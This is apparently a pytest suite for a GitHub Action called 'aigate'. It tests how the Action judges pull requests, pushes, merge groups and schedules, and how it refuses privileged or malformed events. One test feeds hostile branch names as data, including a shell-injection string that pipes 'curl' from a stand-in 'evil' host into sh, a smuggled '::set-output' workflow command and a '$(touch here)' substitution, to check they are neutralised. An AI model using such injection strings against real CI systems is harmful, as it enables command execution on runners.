"""What the steps of the GitHub Action do with an event, without a runner around them."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.action.conftest import BAD

ZERO = "0" * 40


def pull_request(base="main"):
    return {"pull_request": {"base": {"ref": base}}, "repository": {"default_branch": "main"}}


def test_a_pull_request_that_blocks_leaves_everything_and_fails(job):
    head = job.project.git("rev-parse", "topic")
    seen, outputs, given = job.run("pull_request", pull_request(), head)

    assert seen.code == 1
    assert seen.out.startswith(b"::error file=a.txt,line=1,")
    assert outputs["verdict"] == "fail"
    assert outputs["blocking-count"] == "1"
    assert job.files["summary"].read_text().startswith("## aigate: fail\n")
    report = json.loads(Path(outputs["report-file"]).read_bytes())
    assert outputs["findings-count"] == str(report["summary"]["findings"])
    assert json.loads(Path(outputs["sarif-file"]).read_bytes())["version"] == "2.1.0"
    assert job.conclude(outputs, given, outcome="failure").code == 1


@pytest.mark.parametrize("event", ["pull_request", "pull_request_review"])
def test_a_calm_pull_request_passes(job, event):
    head = job.project.git("rev-parse", "calm")
    seen, outputs, given = job.run(event, pull_request(), head)

    assert (seen.code, outputs["verdict"]) == (0, "pass")
    assert job.conclude(outputs, given, outcome="success").code == 0


def test_c_055_a_merge_group_is_compared_with_what_it_was_built_on(job):
    built_on = job.project.git("rev-parse", "topic")
    head = job.project.commit({"c.txt": "calm\n"}, branch="group", parents=[built_on])
    payload = {"merge_group": {"base_sha": built_on, "base_ref": "refs/heads/main"}}
    seen, outputs, given = job.run("merge_group", payload, head)

    assert (seen.code, outputs["verdict"]) == (0, "pass")
    assert job.conclude(outputs, given, outcome="success").code == 0


def test_a_push_is_compared_with_what_was_there(job):
    head = job.project.git("rev-parse", "topic")
    payload = {"before": job.main, "after": head, "ref": "refs/heads/main"}

    assert job.run("push", payload, head)[0].code == 1


def test_a_schedule_judges_the_whole_tree(job):
    head = job.project.git("rev-parse", "topic")
    seen, outputs, _ = job.run("schedule", {}, head)

    assert (seen.code, outputs["verdict"]) == (1, "fail")


def test_a_branch_that_nobody_protects_is_no_base(job):
    """The decoy has the finding already; against it the change would be calm."""
    decoy = job.project.git("rev-parse", "topic")
    job.project.git("update-ref", "refs/remotes/origin/decoy", decoy)
    head = job.project.commit({"c.txt": "calm\n"}, branch="on-decoy", parents=[decoy])

    assert job.run("pull_request", pull_request("decoy"), head)[0].code == 1


def test_a_tag_that_is_called_like_a_branch_is_no_base(job):
    """A clone with tags and without the branch, as `fetch-tags` makes one."""
    head = job.project.git("rev-parse", "topic")
    job.project.git("update-ref", "-d", "refs/remotes/origin/main")
    job.project.git("update-ref", "refs/tags/origin/main", head)

    seen, outputs, _ = job.run("pull_request", pull_request(), head)

    assert (seen.code, outputs.get("verdict")) == (3, None)


REFUSED = {
    "C-062-privileged": ("pull_request_target", pull_request(), 2),
    "C-069-no-base": ("pull_request", {}, 3),
    "C-069-no-json": ("pull_request", b"{", 3),
    "C-069-no-such-branch": (
        "pull_request",
        pull_request("gone") | {"repository": {"default_branch": "gone"}},
        3,
    ),
    "C-069-event": ("release", {}, 2),
}


@pytest.mark.parametrize("name", REFUSED)
def test_what_cannot_be_judged_is_no_pass(job, name):
    event, payload, code = REFUSED[name]
    seen, outputs, given = job.run(event, payload, job.main)

    assert seen.code == code
    assert "verdict" not in outputs
    lines = seen.out.decode().splitlines()
    assert [line for line in lines if line.startswith("::")] == lines[:1]
    assert lines[0].startswith("::error title=aigate (")
    assert job.conclude(outputs, given, outcome="failure").code == 3


@pytest.mark.parametrize(
    "branch",
    ['x";curl${IFS}evil|sh;"', "x\n::set-output name=verdict::pass", "$(touch here)"],
    ids=["C-063-quote", "C-063-newline", "C-063-command"],
)
def test_a_hostile_name_of_a_base_is_a_branch_that_nobody_protects(job, branch):
    head = job.project.git("rev-parse", "topic")
    seen, outputs, _ = job.run("pull_request", pull_request(branch), head)

    assert (seen.code, outputs["verdict"]) == (1, "fail")
    assert not [line for line in seen.out.splitlines() if line.startswith(b"::set-output")]
    assert not list(job.project.root.rglob("here"))


def test_c_069_without_a_payload_nothing_is_judged(job):
    seen, _, _ = job.run("pull_request", {}, job.main, GITHUB_EVENT_PATH="/dev/null/event.json")

    assert seen.code == 3


NO_PASS = {
    "C-070-cancelled": ({"AIGATE_OUTCOME": "cancelled"}, 3),
    "C-072-skipped": ({"AIGATE_OUTCOME": "skipped"}, 3),
    "C-072-failed": ({"AIGATE_OUTCOME": "failure"}, 3),
    "C-072-no-outcome": ({"AIGATE_OUTCOME": ""}, 3),
    "C-070-no-decision": ({"AIGATE_DECISION": ""}, 3),
    "C-070-decision-gone": ({"AIGATE_DECISION": "/dev/null/decision.json"}, 3),
    "no-nonce": ({"AIGATE_NONCE": ""}, 3),
    "other-nonce": ({"AIGATE_NONCE": "0" * 32}, 4),
    "other-commit": ({"GITHUB_SHA": ZERO}, 4),
}


@pytest.mark.parametrize("name", NO_PASS)
def test_the_last_word_is_a_pass_only_for_a_fresh_pass_about_this(job, name):
    environ, code = NO_PASS[name]
    head = job.project.git("rev-parse", "calm")
    _, outputs, given = job.run("pull_request", pull_request(), head)

    assert job.conclude(outputs, given, outcome="success", **environ).code == code


def test_c_068_nothing_of_other_jobs_is_used_whatever_the_job_calls_itself(job):
    """Some set `CI` to false for the sake of other tools; a runner of one's own keeps its home."""
    head = job.project.git("rev-parse", "calm")
    seen, _, _ = job.run("pull_request", pull_request(), head, CI="false")

    assert seen.code == 0
    assert not [path for path in job.project.home.rglob("*") if path.name in {"kept", "cache-key"}]


ODD = {
    "fails-with-0": {"decision": "fail"},
    "incomplete-with-0": {"decision": "incomplete"},
    "passes-with-findings": {"blocking": 1},
    "passes-with-gaps": {"gaps": 1},
}


@pytest.mark.parametrize("name", ODD)
def test_a_decision_that_contradicts_itself_is_no_pass(job, name):
    head = job.project.git("rev-parse", "calm")
    _, outputs, given = job.run("pull_request", pull_request(), head)
    file = Path(outputs["decision-file"])
    file.write_text(json.dumps(json.loads(file.read_text()) | ODD[name]))

    assert job.conclude(outputs, given, outcome="success").code == 4


def test_c_066_without_a_place_for_the_summary_the_verdict_stands(job):
    head = job.project.git("rev-parse", "calm")
    seen, outputs, _ = job.run(
        "pull_request", pull_request(), head, GITHUB_STEP_SUMMARY="/dev/null/summary"
    )

    assert (seen.code, outputs["verdict"]) == (0, "pass")
    assert b"::warning title=aigate::the summary cannot be written" in seen.out


def test_c_071_a_summary_that_is_full_already_is_left_alone_and_that_is_said(job):
    summary = job.files["summary"].with_name("full")
    summary.write_bytes(b"x" * (1024 * 1024 - 100))
    head = job.project.git("rev-parse", "topic")
    seen, _, _ = job.run("pull_request", pull_request(), head, GITHUB_STEP_SUMMARY=str(summary))

    assert seen.code == 1
    assert summary.stat().st_size == 1024 * 1024 - 100
    assert b"::warning title=aigate::the summary of this step has no room left" in seen.out


def test_inputs_count_more_than_the_event(job):
    head = job.project.git("rev-parse", "topic")
    seen, _, _ = job.run("release", {}, head, AIGATE_BASE="origin/main")

    assert seen.code == 1


def test_packages_are_looked_up_if_the_workflow_says_so(job):
    head = job.project.commit(
        {"requirements.txt": "acme-none-such\n"}, branch="needs", parents=[job.main]
    )
    unreachable = {"PIP_INDEX_URL": "http://127.0.0.1:1/simple", "PIP_CONFIG_FILE": "/dev/null"}
    for wish, verdict in {"": "pass", "false": "pass", "true": "incomplete", "yes": ""}.items():
        given = {"AIGATE_CHECK_PACKAGES": wish, **unreachable}
        seen, outputs, _ = job.run("pull_request", pull_request(), head, **given)
        assert outputs.get("verdict", "") == verdict
        assert (seen.code == 0) == (verdict == "pass")


def test_an_input_is_never_an_option(job):
    seen, _, _ = job.run("pull_request", pull_request(), job.main, AIGATE_BASE="--output=json=x")

    assert seen.code == 2


def test_c_067_no_login_and_no_name_of_a_commit_is_an_exemption(job):
    bot = "dependabot[bot] <49699333+dependabot[bot]@users.noreply.github.com> 1700000000 +0000"
    head = job.project.commit({"d.txt": BAD}, branch="bump", parents=[job.main], author=bot)
    seen, outputs, _ = job.run(
        "pull_request",
        pull_request() | {"sender": {"login": "dependabot[bot]", "id": 49699333, "type": "Bot"}},
        head,
        GITHUB_ACTOR="dependabot[bot]",
        GITHUB_ACTOR_ID="49699333",
        GITHUB_TRIGGERING_ACTOR="dependabot[bot]",
    )

    assert (seen.code, outputs["verdict"]) == (1, "fail")
